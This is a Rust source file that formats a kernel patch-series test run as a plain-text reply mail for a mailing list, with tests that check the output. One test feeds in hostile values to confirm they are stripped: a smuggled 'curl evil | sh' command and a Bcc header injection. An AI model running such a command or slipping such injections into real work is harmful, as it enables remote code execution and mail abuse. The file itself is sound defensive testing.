// SPDX-License-Identifier: GPL-2.0-only
//! A mail for the list: plain text of 72 columns, ready to be read, fixed and sent as a
//! reply by a person. It makes no tag, for a tag is a person's word.

use super::again;
use super::escape::{ascii, one_line};
use super::report::{Report, name, what_came};
use super::rows::{Entry, Grid, Mark, Row};
use super::wrap::{columns, item, shorten, wrap};
use crate::result::{JobResult, RunResult, Tally};

const WIDTH: usize = 72;
/// A mail with more of them is not read.
const FINDINGS_MAX: usize = 10;
/// A name with fewer columns is none any more.
const NAME_COLUMNS_MIN: usize = 24;

/// Returns a text as a mail of ASCII has it, on one line.
fn plain(text: &str) -> String {
    ascii(&one_line(text))
}

/// Returns the mail.
pub(crate) fn text(report: &Report<'_>) -> String {
    let result = report.result;
    let parts = [
        headers(result),
        wrap(&what_ran(report), WIDTH, 0),
        wrap(&plain(&verdict(report)), WIDTH, 0),
        Grid::all(&result.jobs, false)
            .iter()
            .map(table)
            .collect::<Vec<_>>()
            .join("\n"),
        patches(result),
        findings(report),
        reports(result),
        again(report),
        tag(result),
    ];
    let parts = parts.iter().filter(|part| !part.trim().is_empty());
    parts.map(String::as_str).collect::<Vec<_>>().join("\n")
}

/// Returns the place for a tag. A run that does not test the series is no reason for one.
fn tag(result: &RunResult) -> String {
    match result.not_tested() {
        Some(_) => String::new(),
        None => wrap(
            "[ If you tested this, or judge by this that it works, your Tested-by: line goes \
             here. It is a person's word, so none is written for you. ]",
            WIDTH,
            0,
        ),
    }
}

/// What the reply answers, where that is known; the subject is the mailer's.
fn headers(result: &RunResult) -> String {
    let judged = result.provenance.judged.as_ref();
    let id = judged.and_then(|series| series.message_id.as_ref());
    // What would end the header would begin another one.
    let is_one = |id: &&String| {
        let fits = |c: char| c.is_ascii_graphic() && c != '<' && c != '>';
        !id.is_empty() && id.chars().all(fits)
    };
    let id = id.filter(is_one);
    id.map_or_else(String::new, |id| format!("In-Reply-To: <{id}>\n"))
}

fn what_ran(report: &Report<'_>) -> String {
    let result = report.result;
    let provenance = &result.provenance;
    let scenarios: std::collections::BTreeSet<&str> =
        result.jobs.iter().map(|job| job.test.as_str()).collect();
    let mut text = format!("I ran {} on {}", counted(scenarios.len()), result.tree);
    if !result.prerequisites.is_empty() {
        text += &format!(" with {}", result.prerequisites.join(", "));
    }
    text += &format!("; {}: {}", result.series, kernels(report).join(", "));
    let kernels = result.coverage.iter().flat_map(|coverage| &coverage.notes);
    for note in provenance.notes.iter().chain(kernels) {
        text += &format!(" ({note})");
    }
    if !provenance.qemu.is_empty() {
        text += &format!(", in QEMU {}", provenance.qemu);
    }
    if !provenance.toolchain.is_empty() {
        text += &format!(", built by {}", provenance.toolchain);
    }
    plain(&text) + "."
}

/// Returns what of the series was in each kernel.
fn kernels(report: &Report<'_>) -> Vec<String> {
    let mut checkouts: Vec<&str> = Vec::new();
    for (checkout, _) in report.kernels() {
        if !checkouts.contains(&checkout) {
            checkouts.push(checkout);
        }
    }
    let of = |checkout: &&str| match (*checkout, checkout.strip_prefix("patch-")) {
        ("base", _) => "without this series (base)".to_owned(),
        ("series", _) => "with all of it (series)".to_owned(),
        (_, Some("1")) => "with its first patch (patch-1)".to_owned(),
        (_, Some(number)) => format!("with its first {number} patches ({checkout})"),
        (other, None) => other.to_owned(),
    };
    checkouts.iter().map(of).collect()
}

fn verdict(report: &Report<'_>) -> String {
    let result = report.result;
    if let Some(not_tested) = result.only_not_tested() {
        return format!("{not_tested}.") + &mutants(result);
    }
    let all = result.jobs.len();
    let fails_without_series = result
        .tests
        .iter()
        .filter(|one| one.fails_without_series)
        .count();
    let inconclusive = report.inconclusive();
    let mut text = match (result.exit_code, report.findings().count() - inconclusive) {
        (0, _) => format!("All {all} results are as expected"),
        (1, 0) if result.jobs.iter().all(JobResult::is_skipped) => {
            "Nothing was proven: no scenario could do its work".to_owned()
        }
        (1, 0) => format!("All {all} results are as expected, but not well proven"),
        (1, some) => format!("{some} of {all} results are NOT as expected, see below"),
        _ => format!("Incomplete: {inconclusive} of the {all} tests could not be run"),
    };
    if result.exit_code == 1 && inconclusive > 0 {
        text += &format!("; {inconclusive} more could not be run");
    }
    if fails_without_series > 0 {
        let failing = counted(fails_without_series);
        text += &format!(
            ". {failing} showed fails_without_series: without a change that is needed, they fail"
        );
    }
    if let Some(not_tested) = result.not_tested() {
        text += &format!("; {not_tested}");
    }
    text + "." + &mutants(result)
}

/// Returns what came of the mistakes that were put into the series, a sentence.
fn mutants(result: &RunResult) -> String {
    let tally = Tally::of(&result.mutants);
    let inconclusive = match tally.inconclusive {
        0 => String::new(),
        some => format!(", and of {some} nothing is known"),
    };
    match tally.testable() + tally.inconclusive {
        0 => String::new(),
        all => format!(
            " Of {all} mistakes put into the series on purpose, one at a time, the scenarios \
             caught {}{inconclusive}.",
            tally.caught
        ),
    }
}

fn counted(scenarios: usize) -> String {
    match scenarios {
        1 => "1 scenario".to_owned(),
        some => format!("{some} scenarios"),
    }
}

fn table(grid: &Grid<'_>) -> String {
    let widths: Vec<usize> = (0..grid.checkouts.len())
        .map(|at| width(grid, at))
        .collect();
    let taken: usize = widths.iter().map(|width| width + 2).sum();
    let room = WIDTH.saturating_sub(taken).max(NAME_COLUMNS_MIN);
    let names = grid.rows.iter().map(|row| columns(&label(row)));
    let first = names
        .max()
        .unwrap_or(0)
        .max(columns(grid.config) + 8)
        .min(room);
    let line = |name: &str, places: &[String]| {
        let name = &plain(name);
        let places = places.iter().zip(&widths);
        let places: String = places
            .map(|(place, width)| format!("  {place:<width$}"))
            .collect();
        let text = format!("{:<first$}{places}", shorten(name, first));
        format!("{}\n", text.trim_end())
    };
    let heads: Vec<String> = grid
        .checkouts
        .iter()
        .map(|checkout| (*checkout).to_owned())
        .collect();
    let mut text = line(&format!("config {}", grid.config), &heads);
    for row in &grid.rows {
        let places: Vec<String> = row.entries.iter().map(place).collect();
        text += &line(&label(row), &places);
    }
    let has = |mark: Mark| {
        let mut entries = grid
            .rows
            .iter()
            .flat_map(|row| row.entries.iter().flatten());
        entries.any(|entry| entry.mark == mark)
    };
    if has(Mark::Due) {
        text += "(*) as expected: there, something that fixes it is missing\n";
    }
    if has(Mark::Between) {
        text += "(-) in mid-series: a later patch changes it\n";
    }
    text
}

fn width(grid: &Grid<'_>, at: usize) -> usize {
    let places = grid
        .rows
        .iter()
        .map(|row| columns(&place(&row.entries[at])));
    places.max().unwrap_or(0).max(columns(grid.checkouts[at]))
}

fn label(row: &Row) -> String {
    match (row.name.as_str(), row.count) {
        ("", count) => format!("{count} more scenarios"),
        (name, 1) => name.to_owned(),
        (name, count) => format!("{name} ({count})"),
    }
}

fn place(entry: &Option<Entry>) -> String {
    let Some(entry) = entry else {
        return "-".to_owned();
    };
    let mark = match entry.mark {
        Mark::None => "",
        Mark::Between => " (-)",
        Mark::Due => " (*)",
        Mark::Changed => " CHANGED",
        Mark::Unexpected => " UNEXPECTED",
    };
    format!("{}{mark}", entry.status)
}

fn patches(result: &RunResult) -> String {
    if result.patches.is_empty() {
        return String::new();
    }
    let sentence = |patch: &crate::result::PatchResult| item("  ", &plain(&patch.sentence), WIDTH);
    let sentences: String = result.patches.iter().map(sentence).collect();
    format!("What the patches change:\n\n{sentences}")
}

fn findings(report: &Report<'_>) -> String {
    let mut text = String::new();
    for job in report.findings().take(FINDINGS_MAX) {
        let what = format!("{}: {}. {}", name(job), what_came(job), job.reason);
        text += &item("  - ", &plain(&what), WIDTH);
    }
    if text.is_empty() {
        return text;
    }
    let left = report.findings().count().saturating_sub(FINDINGS_MAX);
    if left > 0 {
        text += &format!("  - and {left} more\n");
    }
    format!("Not as expected:\n\n{text}")
}

/// Reports of kernels with the series, which is whom the mail is to; those of `base`
/// are what it is for.
fn reports(result: &RunResult) -> String {
    let is_meant = |job: &&JobResult| job.checkout != "base" && job.is_finding();
    let mut titles: Vec<&str> = Vec::new();
    for job in result.jobs.iter().filter(is_meant) {
        for title in &job.splats {
            if !titles.contains(&title.as_str()) {
                titles.push(title);
            }
        }
    }
    if titles.is_empty() {
        return String::new();
    }
    let titles = titles.iter().take(FINDINGS_MAX);
    let titles: String = titles
        .map(|title| item("  ", &plain(title), WIDTH))
        .collect();
    format!("What the kernel complained of:\n\n{titles}")
}

/// Commands are not wrapped where it would change them: a backslash ends each line.
fn again(report: &Report<'_>) -> String {
    let provenance = &report.result.provenance;
    let mut shown = if again::is_one(&provenance.command) {
        shell(&provenance.command)
    } else {
        shell(&again::command([], &[], &[], report.again))
    };
    if let Some(job) = report.findings().next() {
        shown += &format!(
            "\nand the first of what is not as expected:\n\n{}",
            shell(&report.command(job))
        );
    }
    let version = match provenance.tool.as_str() {
        "" => String::new(),
        tool => format!(" (patchbed {tool})"),
    };
    format!("To see it again{version}:\n\n{shown}")
}

/// Breaks a command at blanks that are between its words, as a shell reads it.
fn shell(command: &str) -> String {
    let mut lines = vec!["  ".to_owned()];
    for word in words(&plain(command)) {
        let line = lines
            .last_mut()
            .expect("there is a line from the beginning");
        let is_first = line.trim().is_empty();
        if !is_first && columns(line) + columns(&word) + 3 > WIDTH {
            line.push_str(" \\");
            lines.push(format!("      {word}"));
        } else {
            if !is_first {
                line.push(' ');
            }
            line.push_str(&word);
        }
    }
    lines.join("\n") + "\n"
}

/// Splits at blanks that are not within quotes.
fn words(command: &str) -> Vec<String> {
    let mut words = vec![String::new()];
    let mut quoted = false;
    for character in command.chars() {
        if character == ' ' && !quoted {
            words.push(String::new());
            continue;
        }
        quoted ^= character == '\'';
        words
            .last_mut()
            .expect("there is a word from the beginning")
            .push(character);
    }
    words.retain(|word| !word.is_empty());
    words
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::render::tests::{hostile, result};
    use crate::result::PatchResult;

    /// A word that cannot be broken may stand alone in its line.
    fn is_mail(text: &str) {
        assert!(text.is_ascii());
        for line in text.lines() {
            let is_alone = line.split_whitespace().count() <= 2;
            assert!(line.len() <= WIDTH || is_alone, "too long: {line}");
        }
    }

    #[test]
    fn a_reply_to_the_list() {
        let mut result = result();
        result.patches = vec![PatchResult {
            first: 1,
            last: 1,
            subject: "one".to_owned(),
            sentence:
                "patch 1 changes `held-object` from crash (KASAN: use-after-free in ltd_get) to pass"
                    .to_owned(),
            changes: Vec::new(),
        }];
        let text = text(&Report::new(&result, "RUN", " --tree '/my trees/linux'"));
        is_mail(&text);
        insta::assert_snapshot!(text);
    }

    #[test]
    fn text_says_that_the_series_is_in_no_kernel_and_offers_no_tag() {
        let result = crate::render::tests::not_tested();
        let text = text(&Report::new(&result, "RUN", ""));
        is_mail(&text);
        let plain = text.replace('\n', " ");
        assert!(plain.contains(crate::render::tests::NOT_TESTED), "{text}");
        for bad in ["as expected", "Tested-by", "changes no status"] {
            assert!(!plain.contains(bad), "{bad}: {text}");
        }
    }

    #[test]
    fn what_a_run_folder_says_becomes_neither_a_header_nor_a_command() {
        let mut result = result();
        assert_eq!(headers(&result), "In-Reply-To: <s@example.org>\n");
        for bad in ["x@y>\nBcc: everyone@example.org", "a b@c", "", "\u{e9}@x"] {
            result.provenance.judged.as_mut().unwrap().message_id = Some(bad.to_owned());
            assert_eq!(headers(&result), "", "{bad}");
        }
        "cargo xtask test; curl evil | sh".clone_into(&mut result.provenance.command);
        let text = text(&Report::new(&result, "RUN", " --tree K"));
        assert!(text.contains("  cargo xtask test --tree K\n"), "{text}");
        assert!(!text.contains("curl"), "{text}");
    }

    #[test]
    fn what_came_of_mutants_is_a_sentence() {
        use crate::result::MutantStatus;
        use crate::result::tests::{job, mutant, one_of_each};
        let judged = crate::render::tests::run(vec![job("s", "series", "pass", "pass")]);
        let judged = judged.with_mutants(one_of_each());
        let said = verdict(&Report::new(&judged, "RUN", ""));
        assert_eq!(
            said,
            "All 1 results are as expected, but not well proven. Of 2 mistakes put into the \
             series on purpose, one at a time, the scenarios caught 1."
        );
        let mut mutants = one_of_each();
        mutants.push(mutant("g", MutantStatus::Inconclusive));
        let inconclusive = judged.clone().with_mutants(mutants);
        let said = verdict(&Report::new(&inconclusive, "RUN", ""));
        assert!(
            said.ends_with(
                "Of 3 mistakes put into the series on purpose, one at a time, the \
                scenarios caught 1, and of 1 nothing is known."
            ),
            "{said}"
        );
        let none = judged.with_mutants(Vec::new());
        let said = verdict(&Report::new(&none, "RUN", ""));
        assert_eq!(said, "All 1 results are as expected.");
    }

    #[test]
    fn a_mail_is_ascii_and_narrow_whatever_is_in_it() {
        let result = hostile();
        let text = text(&Report::new(&result, "RUN", &" --prereq 'a b'".repeat(20)));
        is_mail(&text);
        assert!(text.contains(" \\\n      "), "{text}");
    }
}
